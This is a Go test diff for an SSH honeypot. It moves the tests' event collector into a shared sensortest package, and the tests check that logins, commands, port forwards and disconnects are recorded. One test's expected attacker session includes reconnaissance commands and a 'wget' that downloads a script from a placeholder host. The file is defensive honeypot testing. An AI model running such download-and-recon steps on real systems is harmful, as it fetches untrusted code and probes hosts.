@@ -23,57 +23,14 @@ import (
 	"golang.org/x/crypto/ssh"
 
 	"github.com/vallum/vallum/internal/sensor"
+	"github.com/vallum/vallum/internal/sensor/sensortest"
 )
-
-// events collects what a honeypot emits.
-type events struct {
-	mu  sync.Mutex
-	evs []sensor.Event
-	ch  chan struct{}
-}
-
-func (e *events) Emit(ev sensor.Event) {
-	e.mu.Lock()
-	e.evs = append(e.evs, ev)
-	e.mu.Unlock()
-	select {
-	case e.ch <- struct{}{}:
-	default:
-	}
-}
-
-// all returns the events so far of kind ("" for all).
-func (e *events) all(kind string) []sensor.Event {
-	e.mu.Lock()
-	defer e.mu.Unlock()
-	var out []sensor.Event
-	for _, ev := range e.evs {
-		if kind == "" || ev.Kind == kind {
-			out = append(out, ev)
-		}
-	}
-	return out
-}
-
-// wait waits until ok holds for the events, or fails the test.
-func (e *events) wait(t *testing.T, what string, ok func() bool) {
-	t.Helper()
-	deadline := time.After(10 * time.Second)
-	for !ok() {
-		select {
-		case <-e.ch:
-		case <-time.After(50 * time.Millisecond):
-		case <-deadline:
-			t.Fatalf("timed out waiting for %s; events: %+v", what, e.all(""))
-		}
-	}
-}
 
 type pot struct {
 	srv    *Server
 	addr   string
 	dir    string
-	events *events
+	events *sensortest.Events
 	stop   func()
 }
 
@@ -83,7 +40,7 @@ func startPot(t *testing.T, cfg Config, dir string) *pot {
 	if dir == "" {
 		dir = t.TempDir()
 	}
-	ev := &events{ch: make(chan struct{}, 1)}
+	ev := &sensortest.Events{}
 	srv, err := New(cfg, sensor.Env{Name: "test", Sink: ev, Dir: dir, Budget: sensor.NewBudget(64 << 20)})
 	if err != nil {
 		t.Fatal(err)
@@ -191,8 +148,8 @@ func TestInteractiveTranscript(t *testing.T) {
 	}
 	client.Close()
 
-	p.events.wait(t, "disconnect", func() bool { return len(p.events.all(sensor.KindDisconnect)) == 1 })
-	disc := p.events.all(sensor.KindDisconnect)[0]
+	p.events.Wait(t, "disconnect", func() bool { return len(p.events.All(sensor.KindDisconnect)) == 1 })
+	disc := p.events.All(sensor.KindDisconnect)[0]
 	if len(disc.Payloads) != 1 {
 		t.Fatalf("disconnect payloads: %+v", disc.Payloads)
 	}
@@ -215,18 +172,18 @@ func TestInteractiveTranscript(t *testing.T) {
 	}
 
 	var cmds []string
-	for _, ev := range p.events.all(sensor.KindCommand) {
+	for _, ev := range p.events.All(sensor.KindCommand) {
 		cmds = append(cmds, ev.Command)
 	}
 	wantCmds := []string{"uname -a", "id", "whoami", "cat /proc/cpuinfo | grep name | wc -l", "cd /tmp && echo hi > x; cat x", "nosuch", "wget http://example.invalid/x.sh", "exit 3"}
 	if !slices.Equal(cmds, wantCmds) {
 		t.Errorf("command events %q, want %q", cmds, wantCmds)
 	}
-	dl := p.events.all(sensor.KindRequest)
+	dl := p.events.All(sensor.KindRequest)
 	if len(dl) != 1 || dl[0].Details["url"] != "http://example.invalid/x.sh" || dl[0].Details["tool"] != "wget" {
 		t.Errorf("download events: %+v", dl)
 	}
-	auth := p.events.all(sensor.KindAuth)
+	auth := p.events.All(sensor.KindAuth)
 	if len(auth) != 1 || auth[0].Credentials.Password != "hunter2" || !auth[0].Credentials.Accepted ||
 		auth[0].Fingerprints["hassh"] == "" || !strings.HasPrefix(auth[0].Fingerprints["client_version"], "SSH-2.0-Go") {
 		t.Errorf("auth events: %+v", auth)
@@ -286,8 +243,8 @@ func TestExecAndForward(t *testing.T) {
 	if _, err := client.Listen("tcp", "0.0.0.0:8080"); err == nil {
 		t.Error("tcpip-forward was accepted")
 	}
-	p.events.wait(t, "forward events", func() bool { return len(p.events.all(sensor.KindForward)) == 2 })
-	fw := p.events.all(sensor.KindForward)
+	p.events.Wait(t, "forward events", func() bool { return len(p.events.All(sensor.KindForward)) == 2 })
+	fw := p.events.All(sensor.KindForward)
 	if fw[0].Details["host"] != "192.0.2.1" || fw[0].Details["port"] != "80" || fw[1].Details["type"] != "tcpip-forward" || fw[1].Details["port"] != "8080" {
 		t.Errorf("forward events: %+v", fw)
 	}
@@ -355,8 +312,8 @@ func TestLimits(t *testing.T) {
 			t.Errorf("idle client: %v, want the server to close it", err)
 		}
 	}
-	p.events.wait(t, "three disconnects", func() bool { return len(p.events.all(sensor.KindDisconnect)) == 3 })
-	for _, ev := range p.events.all(sensor.KindDisconnect) {
+	p.events.Wait(t, "three disconnects", func() bool { return len(p.events.All(sensor.KindDisconnect)) == 3 })
+	for _, ev := range p.events.All(sensor.KindDisconnect) {
 		if ev.Details["reason"] != "timeout" {
 			t.Errorf("disconnect reason %q, want timeout", ev.Details["reason"])
 		}
@@ -378,8 +335,8 @@ func TestMaxAuthTries(t *testing.T) {
 	if err == nil {
 		t.Fatal("logged in under policy never")
 	}
-	p.events.wait(t, "the disconnect", func() bool { return len(p.events.all(sensor.KindDisconnect)) == 1 })
-	if n := len(p.events.all(sensor.KindAuth)); n != 2 {
+	p.events.Wait(t, "the disconnect", func() bool { return len(p.events.All(sensor.KindDisconnect)) == 1 })
+	if n := len(p.events.All(sensor.KindAuth)); n != 2 {
 		t.Errorf("%d attempts recorded, want 2 (max_auth_tries)", n)
 	}
 }
